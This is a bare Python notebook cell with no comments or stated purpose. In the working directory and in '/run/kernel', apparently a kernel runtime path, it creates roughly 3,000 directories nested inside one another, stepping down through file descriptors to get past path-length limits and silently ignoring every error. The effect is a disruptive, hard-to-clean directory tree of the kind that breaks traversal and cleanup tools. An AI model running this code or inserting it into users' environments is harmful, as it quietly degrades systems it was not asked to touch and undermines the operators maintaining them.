# %%
import os
for place in (".", "/run/kernel"):
    try:
        here = os.open(place, os.O_RDONLY)
        for _ in range(3_000):
            os.mkdir("d", dir_fd=here)
            below = os.open("d", os.O_RDONLY, dir_fd=here)
            os.close(here)
            here = below
    except OSError:
        pass
